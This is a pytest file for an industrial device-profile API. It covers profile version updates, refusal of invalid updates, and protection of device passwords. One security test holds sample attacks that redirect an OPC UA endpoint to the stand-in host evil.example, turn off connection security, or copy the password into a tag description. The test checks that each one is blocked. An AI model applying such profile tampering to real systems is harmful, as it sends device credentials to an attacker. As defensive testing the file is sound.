"""Devices go to the newest version of their profile, against real PostgreSQL."""

from __future__ import annotations

import copy

import pytest

from schemas.config.devices import Manifest

PUMP = {
    "name": "Pump",
    "parameters": [{"name": "host"}, {"name": "base", "default": "0"}],
    "device": {"connection": {"driver": "modbus", "host": "{host}"}},
    "tags": [
        {"name": "speed", "address": "HR:{base}", "unit": "1/min"},
        {"name": "level", "address": "HR:10", "unit": "m"},
        {"name": "old", "address": "HR:20"},
    ],
}
NEWER = PUMP | {
    "parameters": [*PUMP["parameters"], {"name": "late_s", "default": "3"}],
    "device": {"connection": {"driver": "modbus", "host": "{host}", "timeout_s": "{late_s}"}},
    "tags": [
        PUMP["tags"][0] | {"unit": "Hz"},
        PUMP["tags"][1] | {"unit": "mm", "description": "from the floor"},
        {"name": "new", "address": "HR:30"},
    ],
    "version": 1,
}
UPDATE = "/api/v1/devices/update-profile"


@pytest.fixture
async def pumps(engineer, spoke_id):
    """Three of them, of version 1; version 2 is out."""
    assert (await engineer.post("/api/v1/profiles", json=PUMP)).status_code == 201
    rows = [{"name": f"P{n}", "host": f"10.0.0.{n}", "base": n} for n in range(3)]
    made = await engineer.post(
        "/api/v1/profiles/1/devices", json={"spoke_id": spoke_id, "rows": rows}
    )
    assert made.status_code == 201, made.text
    assert (await engineer.put("/api/v1/profiles/1", json=NEWER)).status_code == 200
    return [item["id"] for item in made.json()]


async def tags(client, device_id):
    found = (await client.get("/api/v1/tags", params={"device_id": device_id})).json()
    return {tag["name"]: tag for tag in found}


async def test_a_new_version_comes_and_handwork_stays(hub, engineer, spoke_id, pumps):
    first, second, _ = pumps
    before = await tags(engineer, first)
    level = {"name": "level", "address": "HR:12", "unit": "cm"}
    await engineer.put(f"/api/v1/tags/{before['level']['id']}", json=level)
    own = {"tags": [{"name": "own", "address": "HR:50"}]}
    await engineer.post(f"/api/v1/devices/{first}/tags", json=own)
    moved = {"name": "P0 left", "connection": {"driver": "modbus", "host": "10.9.9.9"}}
    changed = await engineer.put(f"/api/v1/devices/{first}", json=moved | {"version": 1})
    assert changed.status_code == 200

    answer = await engineer.post(UPDATE, json={"device_ids": [first, second, first]})
    assert answer.status_code == 200, answer.text
    assert [item["id"] for item in answer.json()] == [first, second]
    mine, theirs = answer.json()
    assert (mine["profile_version"], theirs["profile_version"]) == (2, 2)
    assert (mine["name"], mine["connection"]["host"]) == ("P0 left", "10.9.9.9")
    assert (theirs["name"], theirs["connection"]["host"]) == ("P1", "10.0.0.1")
    assert mine["connection"]["timeout_s"] == theirs["connection"]["timeout_s"] == 3.0

    after = await tags(engineer, first)
    assert set(after) == {"speed", "level", "own", "new"}
    assert after["speed"]["id"] == before["speed"]["id"], "its history goes on"
    assert (after["speed"]["unit"], after["speed"]["address"]) == ("Hz", "HR:0")
    assert (after["level"]["unit"], after["level"]["address"]) == ("cm", "HR:12")
    assert after["level"]["description"] == "from the floor"
    assert (await tags(engineer, second))["speed"]["address"] == "HR:1"

    revision = (await engineer.get(f"/api/v1/spokes/{spoke_id}/revisions")).json()[0]
    assert revision["summary"] == "2 devices (P0 left, P1) now of version 2 of profile Pump"
    manifest = Manifest.model_validate(await hub.fleet.manifest("line-1", 0))
    assert [len(device.tags) for device in manifest.devices] == [4, 3, 3]

    again = await engineer.post(UPDATE, json={"device_ids": [first, second]})
    assert again.status_code == 200
    number = (await engineer.get(f"/api/v1/spokes/{spoke_id}/revisions")).json()[0]["number"]
    assert number == revision["number"], "nothing to do is no revision"


async def test_what_cannot_be_updated_leaves_all_as_it_was(hub, engineer, viewer, spoke_id, pumps):
    first, second, third = pumps
    async with hub.store.database.transaction() as conn:
        await conn.execute("UPDATE tag SET wire = '<f4' WHERE device_id = $1", second)
    tags_3 = [NEWER["tags"][0] | {"data_type": "int32"}, *NEWER["tags"][1:]]
    parameters = [*NEWER["parameters"], {"name": "zone"}]
    device = NEWER["device"] | {"description": "zone {zone}"}
    third_version = NEWER | {"tags": tags_3, "version": 2}
    assert (await engineer.put("/api/v1/profiles/1", json=third_version)).status_code == 200

    async def refused(*ids):
        answer = await engineer.post(UPDATE, json={"device_ids": ids})
        assert answer.status_code == 422, answer.text
        return [item["path"] for item in answer.json()["problems"]]

    assert await refused(first, second) == [f"devices.{second}.tags.0.data_type"]
    fourth = third_version | {"parameters": parameters, "device": device, "version": 3}
    assert (await engineer.put("/api/v1/profiles/1", json=fourth)).status_code == 200
    assert await refused(first) == [f"devices.{first}.zone"]
    body = {"name": "Own", "connection": {"driver": "sim"}}
    own = (await engineer.post(f"/api/v1/spokes/{spoke_id}/devices", json=body)).json()["id"]
    assert await refused(own) == [f"devices.{own}"]
    versions = [(await viewer.get(f"/api/v1/devices/{n}")).json() for n in (first, second, third)]
    assert {item["profile_version"] for item in versions} == {1}
    assert (await engineer.post(UPDATE, json={"device_ids": [999]})).status_code == 404
    assert (await viewer.post(UPDATE, json={"device_ids": [first]})).status_code == 403


OPC = {
    "name": "Press",
    "parameters": [{"name": "host"}, {"name": "password"}],
    "device": {
        "connection": {
            "driver": "opcua",
            "endpoint": "opc.tcp://{host}:4840",
            "username": "spindle",
            "password": "{password}",
        }
    },
    "tags": [{"name": "speed", "address": "ns=2;s=Speed"}],
}


def elsewhere(profile):
    profile["device"]["connection"]["endpoint"] = "opc.tcp://evil.example:4840/{host}"


def less_protected(profile):
    profile["device"]["connection"]["security"] = "None"


def shown(profile):
    profile["tags"][0]["description"] = "{password}"
    profile["device"]["connection"]["password"] = ""


@pytest.mark.parametrize("attack", [elsewhere, less_protected, shown])
async def test_a_new_version_teaches_nobody_the_passwords(hub, engineer, spoke_id, attack):
    assert (await engineer.post("/api/v1/profiles", json=OPC)).status_code == 201
    rows = [{"name": "P1", "host": "10.0.0.1", "password": "hunter2"}]
    made = await engineer.post(
        "/api/v1/profiles/1/devices", json={"spoke_id": spoke_id, "rows": rows}
    )
    assert made.status_code == 201, made.text
    newer = copy.deepcopy(OPC) | {"version": 1}
    attack(newer)
    assert (await engineer.put("/api/v1/profiles/1", json=newer)).status_code == 200
    answer = await engineer.post(UPDATE, json={"device_ids": [1]})
    assert answer.status_code == 422, answer.text
    assert "hunter2" not in answer.text
    manifest = (await hub.store.revision(spoke_id, 2)).manifest["devices"][0]
    assert manifest["connection"]["endpoint"] == "opc.tcp://10.0.0.1:4840"
    for path in ("/api/v1/tags", "/api/v1/devices", "/api/v1/profiles", "/api/v1/devices/1"):
        assert "hunter2" not in (await engineer.get(path)).text
    assert "hunter2" not in str([row.detail for row in await hub.store.audits()])


async def test_a_new_version_of_a_device_with_a_password(engineer, spoke_id):
    assert (await engineer.post("/api/v1/profiles", json=OPC)).status_code == 201
    rows = [{"name": "P1", "host": "10.0.0.1", "password": "hunter2"}]
    body = {"spoke_id": spoke_id, "rows": rows}
    assert (await engineer.post("/api/v1/profiles/1/devices", json=body)).status_code == 201
    more = [*OPC["tags"], {"name": "level", "address": "ns=2;s=Level"}]
    assert (
        await engineer.put("/api/v1/profiles/1", json=OPC | {"version": 1, "tags": more})
    ).status_code == 200
    answer = await engineer.post(UPDATE, json={"device_ids": [1]})
    assert answer.status_code == 200, answer.text
    assert set(await tags(engineer, 1)) == {"speed", "level"}


async def test_a_secret_parameter_stands_in_no_other_place(engineer, spoke_id):
    both = copy.deepcopy(OPC)
    both["tags"][0]["description"] = "{password}"
    answer = await engineer.post("/api/v1/profiles", json=both)
    assert answer.status_code == 422
    assert [item["path"] for item in answer.json()["problems"]] == ["tags.0.description"]
